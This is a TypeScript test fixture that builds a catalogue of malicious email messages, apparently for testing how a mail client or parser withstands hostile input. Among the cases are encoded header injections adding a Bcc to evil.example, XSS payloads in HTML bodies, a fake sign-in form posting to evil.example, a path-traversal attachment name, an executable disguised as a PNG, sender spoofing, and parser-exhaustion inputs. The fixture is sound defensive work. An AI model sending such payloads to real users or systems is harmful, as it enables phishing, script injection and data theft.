const crlf = (...lines: string[]) => Buffer.from(`${lines.join('\r\n')}\r\n`);
const head = (from: string, to: string, subject = 'Hello') => [`From: ${from}`, `To: ${to}`, `Subject: ${subject}`];

/** Mails made to do harm, each by its name. `from` is a person whom the inbox knows. */
export function hostileMails(from: string, to: string): Record<string, Uint8Array> {
  const mixed = (parts: number, part: string) => [...head(from, to), 'Content-Type: multipart/mixed; boundary=b', '', ...Array.from({ length: parts }, () => `--b\r\n${part}`), '--b--'];
  const nested = (depth: number) => [...head(from, to), ...Array.from({ length: depth }, (_, n) => `Content-Type: multipart/mixed; boundary=b${n}\r\n\r\n--b${n}`), 'Content-Type: text/plain', '', 'deep'];
  const html = (page: string) => crlf(...head(from, to, 'Page'), 'Content-Type: text/html; charset=utf-8', '', page);
  return {
    nothing: Buffer.alloc(0),
    noise: Buffer.from(Array.from({ length: 10_000 }, (_, n) => (n * 7_919) % 256)),
    zeros: Buffer.alloc(100_000),
    'a head alone': crlf(...head(from, to)),
    'no head': Buffer.from('\r\nOnly a body.'),
    'a subject that adds a header': crlf(...head(from, to, 'Hi =?utf-8?q?=0D=0ABcc:_x=40evil.example=0D=0A?='), '', 'Text'),
    'a name that adds a header': crlf(`From: =?utf-8?q?A=0D=0ABcc:_x=40evil.example?= <${from}>`, `To: ${to}`, '', 'Text'),
    'a header line of a megabyte': crlf(...head(from, to), `X-Long: ${'x'.repeat(1_000_000)}`, '', 'Text'),
    'a subject of 300 KB': crlf(...head(from, to, 'w'.repeat(300_000)), '', 'Text'),
    'a hundred thousand headers': crlf(...head(from, to), ...Array.from({ length: 100_000 }, () => 'A: b'), '', 'Text'),
    'ten thousand parts': crlf(...mixed(10_000, 'Content-Type: text/plain\r\n\r\nx')),
    'ten thousand bare parts': crlf(...mixed(10_000, '\r\nx')),
    'nine hundred files': crlf(...mixed(900, 'Content-Type: text/plain; name=a.txt\r\nContent-Disposition: attachment; filename=a.txt\r\n\r\nx')),
    'five thousand levels': crlf(...nested(5_000)),
    'a mail in a mail in a mail': crlf(...Array.from({ length: 40 }, (_, n) => `${head(from, to, `Level ${n}`).join('\r\n')}\r\nContent-Type: message/rfc822\r\n`), 'end'),
    'a bomb in base64': crlf(...mixed(1, `Content-Type: application/zip; name=b.zip\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=b.zip\r\n\r\n${'UEsDBBQAAAAIAAAA'.repeat(200_000)}`)),
    'a program as a picture': crlf(...mixed(1, `Content-Type: image/png; name=photo.png\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=photo.png\r\n\r\n${Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300)]).toString('base64')}`)),
    'a file name that climbs': crlf(...mixed(1, 'Content-Type: text/plain\r\nContent-Disposition: attachment; filename="../../../etc/passwd"\r\n\r\nroot')),
    'a script': html('<p>Hi<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a><svg onload=alert(1)></svg><iframe src="//evil.example"></iframe></p>'),
    'a page that takes over': html('<style>body{display:none}</style><div style="position:fixed;inset:0">Sign in<form action="https://evil.example"><input name=p></form></div><base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href="//evil.example/x.css">'),
    'a picture that tells': html('<p>Hi<img src="https://evil.example/pixel.gif"><img src="cid:nothing"><img src="data:text/html,<script>alert(1)</script>"></p>'),
    'tags without end': html('<div>'.repeat(100_000)),
    'half a tag': html(`<a href="${'<'.repeat(50_000)}`),
    'an encoding that is none': crlf(...head(from, to), 'Content-Type: text/plain; charset=x-none-such', 'Content-Transfer-Encoding: quoted-unreadable', '', 'Text =ZZ =F0=9F'),
    'letters that turn the line': crlf(...head(from, to, '\u202Egnp.exe'), 'Content-Type: text/plain; charset=utf-8', '', 'a\u202Eb\u0000c\uFEFF\u0007'),
    'half a character': Buffer.concat([crlf(...head(from, to), 'Content-Type: text/plain; charset=utf-8', ''), Buffer.from([0xed, 0xa0, 0x80, 0xff, 0xfe, 0x00])]),
    'quotes without end': crlf(...head(from, to), '', `${'> '.repeat(200_000)}`, `${'On '.repeat(100_000)}wrote`),
    'addresses without end': crlf(`From: ${from}`, `To: ${Array.from({ length: 20_000 }, (_, n) => `a${n}@b.example`).join(', ')}`, '', 'Text'),
    'references without end': crlf(...head(from, to), `References: ${'<a@b> '.repeat(60_000)}`, '', 'Text'),
    'brackets without end': crlf(`From: ${'('.repeat(50_000)} ${from}`, `To: ${'<'.repeat(50_000)}`, '', 'Text'),
    'a boundary of signs': crlf(...head(from, to), 'Content-Type: multipart/mixed; boundary="(.*)+$[a"', '', '--(.*)+$[a', '', 'x', '--(.*)+$[a--'),
    'two heads': crlf(`From: ${from}`, 'From: other@evil.example', `To: ${to}`, '', 'Text'),
    'our own address': crlf(...head(to, to), '', 'Text'),
    'an address in a name': crlf(`From: "${from}" <x@evil.example>`, `To: ${to}`, '', 'Text'),
    'a calendar bomb': crlf(...mixed(1, `Content-Type: text/calendar; method=REQUEST\r\n\r\n${'BEGIN:VEVENT\r\n'.repeat(50_000)}`)),
  };
}
